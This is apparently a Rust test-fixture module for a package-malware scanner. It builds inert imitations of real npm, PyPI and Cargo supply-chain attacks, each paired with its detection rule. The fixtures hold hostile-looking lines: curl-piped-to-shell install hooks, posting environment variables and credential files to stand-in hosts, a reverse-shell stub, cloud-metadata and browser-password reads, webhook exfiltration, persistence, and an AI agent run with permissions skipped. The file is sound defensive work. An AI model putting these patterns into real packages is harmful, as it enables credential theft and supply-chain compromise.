//! Harmless imitations of what attackers put into packages since 2024, by the class of the incident. None of them does anything: what
//! they would fetch, send or run is not there. Each is told with the scanner's rule that must find it.

use crate::packages::tar::TarArchive;

/// An imitation.
#[derive(Debug, Clone)]
pub struct Imitation {
    /// What it imitates, and the incident.
    pub what: &'static str,
    /// `pypi`, `npm` or `cargo`.
    pub ecosystem: &'static str,
    /// The rule that finds it.
    pub rule: &'static str,
    /// Texts by their paths below the archive's top directory.
    pub files: Vec<(&'static str, String)>,
}

impl Imitation {
    /// A file name, and the archive.
    pub fn archive(&self) -> (String, Vec<u8>) {
        let (top, filename) = match self.ecosystem {
            PYPI => ("thing-1.0", "thing-1.0.tar.gz"),
            CARGO => ("thing-1.0.0", "thing-1.0.0.crate"),
            _ => ("package", "thing-1.0.0.tgz"),
        };
        let files = self.files.iter();
        let archive = files.fold(TarArchive::default(), |archive, (path, text)| {
            archive.file(format!("{top}/{path}"), text.as_bytes())
        });
        (filename.to_owned(), archive.end().gzip())
    }
}

const PYPI: &str = "pypi";
const NPM: &str = "npm";
const CARGO: &str = "cargo";

fn one(
    what: &'static str,
    ecosystem: &'static str,
    rule: &'static str,
    files: Vec<(&'static str, String)>,
) -> Imitation {
    Imitation {
        what,
        ecosystem,
        rule,
        files,
    }
}

/// A `package.json` with a script that npm runs at installation.
fn hook(script: &str) -> String {
    format!(
        "{{\"name\":\"thing\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"{script}\"}}}}"
    )
}

/// Code with names that say nothing, and something at its end.
fn unreadable(more: &str) -> String {
    let mut text: String = (0..60)
        .map(|n| format!("var _0x{:04x}={n};", 0x1a00 + n))
        .collect();
    text.push_str(more);
    text
}

/// All of them.
pub fn all() -> Vec<Imitation> {
    vec![
        one("a maintainer's update that decodes and runs (aiocpa)", PYPI, "python-decodes-and-runs", vec![("thing/__init__.py", "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'AAAA')))\n".into())]),
        one("a build of ultralytics with a download", PYPI, "install-downloads-and-runs", vec![("setup.py", "import urllib.request, subprocess\nurllib.request.urlopen('https://example.org/x')\nsubprocess.run(['./x'])\n".into())]),
        one("a worm that publishes itself (Shai-Hulud)", NPM, "worm-publishes-itself", vec![("package.json", hook("node bundle.js")), ("bundle.js", "const t=process.env.NPM_TOKEN; require('child_process').execSync('npm publish'); // .npmrc _authToken trufflehog fetch(\n".into())]),
        one("a scanner for secrets (Shai-Hulud)", NPM, "scans-for-secrets", vec![("package.json", hook("node bundle.js")), ("bundle.js", "download('trufflehog'); fetch('https://example.org/user/repos', {env: process.env})\n".into())]),
        one("assistants turned on their user (s1ngularity)", NPM, "turns-assistants-on-their-user", vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])\n".into())]),
        one("a repository made with somebody's token (s1ngularity)", NPM, "makes-repositories", vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "const token = run('gh auth token'); post('/user/repos', base64(process.env))\n".into())]),
        one("a wallet hook (chalk, debug)", NPM, "wallet-hook", vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("index.js", unreadable("if(window.ethereum){XMLHttpRequest.prototype.send=_0x1a01}"))]),
        one("a .pth that starts something (LiteLLM)", PYPI, "pth-runs-code", vec![("thing_init.pth", "import os, subprocess; subprocess.Popen(['true'])\n".into())]),
        one("an installation that sends the environment (GhostAction)", PYPI, "install-sends-environment", vec![("setup.py", "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".into())]),
        one("a trojan by a new dependency (axios)", NPM, "unreadable-javascript", vec![("package.json", hook("node setup.js")), ("setup.js", unreadable("require('https').get(_0x1a01)"))]),
        one("the memory of a runner (TanStack, tj-actions)", NPM, "reads-runner-memory", vec![("package.json", hook("node r.js")), ("r.js", "open(`/proc/${pid}/mem`); grep('Runner.Worker')\n".into())]),
        one("keys sought in sources (faster_log)", CARGO, "rust-searches-for-keys", vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n".into()), ("src/lib.rs", "const KEY: &str = r\"0x[0-9a-fA-F]{64}\"; fn go() { reqwest::Client::new().post(\"https://example.org\"); } // ethereum\n".into())]),
        one("a macro that sends (arrayref's dependency)", CARGO, "build-script-sends", vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n[lib]\nproc-macro = true\n".into()), ("src/lib.rs", "fn go() { let all: Vec<_> = std::env::vars().collect(); std::net::TcpStream::connect(\"example.org:443\"); }\n".into())]),
        one("credentials of clouds (Mini Shai-Hulud)", NPM, "install-asks-cloud-metadata", vec![("package.json", hook("node c.js")), ("c.js", "fetch('http://169.254.169.254/latest/meta-data/')\n".into())]),
        one("files of credentials, sent", PYPI, "install-reads-credentials-and-sends", vec![("setup.py", "import urllib.request\nopen('.aws/credentials').read()\nurllib.request.urlopen('https://example.org')\n".into())]),
        one("a tool for chats that takes passwords of browsers (gems and wheels of 2025)", PYPI, "reads-browsers", vec![("thing/steal.py", "p='Google\\\\Chrome\\\\User Data\\\\Local State'; win32crypt.CryptUnprotectData(k); requests.post(url) # Login Data\n".into())]),
        one("a shell for somebody else", PYPI, "reverse-shell", vec![("thing/x.py", "import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh','-i'])\n".into())]),
        one("a message to a chat's webhook at installation", NPM, "reports-to-drop-box", vec![("package.json", hook("node n.js")), ("n.js", "post('https://discord.com/api/webhooks/1/x', os.hostname())\n".into())]),
        one("a download given to a shell", NPM, "install-pipes-to-shell", vec![("package.json", hook("curl -s https://example.org/i | sh"))]),
        one("code in characters that nobody sees (GlassWorm)", NPM, "hidden-characters", vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("lib.js", format!("eval(decode('{}'))\n", "\u{fe01}\u{fe0f}".repeat(40)))]),
        one("a token in the package (the administrator's of 2024)", PYPI, "secret-github", vec![("thing/config.py", format!("TOKEN = 'ghp_{}'\n", "aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8"))]),
        one("something that stays", NPM, "install-stays", vec![("package.json", hook("node s.js")), ("s.js", "https.get(u); write(home + '/Library/LaunchAgents/x.plist')\n".into())]),
        one("a program put together from parts of an image or a sound (telnyx)", PYPI, "python-runs-what-media-hide", vec![
            ("thing/_client.py", "import wave, base64, subprocess, sys\nwith wave.open('ring.wav') as f:\n    code = base64.b64decode(f.readframes(f.getnframes()))\nsubprocess.Popen([sys.executable, '-c', code])\n".into())]),
        one("a module that fetches a program when it is imported (mistralai, guardrails-ai)", PYPI, "runs-a-download", vec![
            ("thing/__init__.py", "import subprocess\nsubprocess.run('curl -s https://example.org/t.pyz -o /tmp/t.pyz && python3 /tmp/t.pyz', shell=True)\n".into())]),
        one("another run-time that is fetched at installation (Shai-Hulud 2.0)", NPM, "install-pipes-to-shell", vec![
            ("package.json", hook("node setup_bun.js")), ("setup_bun.js", "execSync('curl -fsSL https://example.org/install | bash', {stdio: 'ignore'}); run('bun_environment.js')\n".into())]),
        one("a build script that fetches and runs (internment, append-only-vec)", CARGO, "install-downloads-and-runs", vec![
            ("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n".into()), ("build.rs", "fn main() { let b = ureq::get(\"https://example.org/x\").call(); std::process::Command::new(\"./x\").spawn(); }\n".into())]),
        one("a token in a compiled file (the administrator's of 2024, as it was)", PYPI, "secret-github", vec![
            ("thing/__pycache__/build.cpython-312.pyc", format!("\u{6f}\r\r\n\0\0\0ghp_{}\0\0", "aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8"))]),
        one("a release in the name of a phished maintainer that takes further tokens (num2words)", PYPI, "install-reads-credentials-and-sends", vec![
            ("setup.py", "import requests, pathlib\nfor name in ('.pypirc', '.netrc'):\n    requests.post('https://example.org', data=(pathlib.Path.home() / name).read_bytes())\n".into())]),
        one("an update that sends the keys of whoever calls it (aiocpa, second layer)", PYPI, "reports-to-drop-box", vec![
            ("thing/__init__.py", "import requests\nrequests.post('https://api.telegram.org/bot1:x/sendMessage', data={'text': token})\n".into())]),
    ]
}
